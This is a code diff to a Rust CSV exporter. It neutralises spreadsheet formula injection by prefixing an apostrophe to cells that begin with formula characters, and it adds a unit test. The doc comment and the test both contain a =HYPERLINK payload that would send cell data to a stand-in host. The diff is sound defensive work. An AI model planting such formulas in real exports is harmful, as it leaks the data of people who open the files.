@@ -21,6 +21,11 @@
 //!   kinds (strings, lists, booleans with numbers or nulls) is written per cell, integers staying
 //!   integers. Floats use Python's repr.
 //! - Lists are written as their Python repr, quoted (`"[{'key': 'Name'}]"`, `"[]"`).
+//!
+//! Changed on purpose: a quoted cell or header whose text starts with `=`, `+`, `-`, `@`, a tab
+//! or a carriage return gets a leading `'`, so a spreadsheet shows it as text instead of running
+//! it as a formula (OWASP's CSV injection advice). Tags and hostnames are tenant-controlled:
+//! `=HYPERLINK("http://x/?"&A1,"!")` would otherwise run when the export is opened.
 
 use std::collections::HashMap;
 
@@ -191,8 +196,14 @@ fn push_cell(out: &mut String, kind: Kind, cell: Option<&Value>) {
     }
 }
 
+/// The first characters a spreadsheet reads as the start of a formula.
+const FORMULA_STARTS: [char; 6] = ['=', '+', '-', '@', '\t', '\r'];
+
 fn push_quoted(out: &mut String, text: &str) {
     out.push('"');
+    if text.starts_with(FORMULA_STARTS) {
+        out.push('\'');
+    }
     out.push_str(&text.replace('"', "\"\""));
     out.push('"');
 }
@@ -275,6 +286,19 @@ mod tests {
         assert_eq!(
             render(&items),
             "\"\",\"_id\",\"empty\",\"name\"\n0,\"a\",\"[]\",\"é\"\n"
+        );
+    }
+
+    #[test]
+    fn formulas_are_written_as_text() {
+        let items = rows(json!([
+            {"name": "=HYPERLINK(\"http://x/?\"&A1,\"!\")", "n": -3, "t": "+1", "u": "@SUM(A1)",
+             "v": "\tx", "w": "\r=1", "x": "-2", "ok": "a=b", "=k": 1},
+        ]));
+        assert_eq!(
+            render(&items),
+            "\"\",\"name\",\"n\",\"t\",\"u\",\"v\",\"w\",\"x\",\"ok\",\"'=k\"\n\
+             0,\"'=HYPERLINK(\"\"http://x/?\"\"&A1,\"\"!\"\")\",-3,\"'+1\",\"'@SUM(A1)\",\"'\tx\",\"'\r=1\",\"'-2\",\"a=b\",1\n"
         );
     }
 
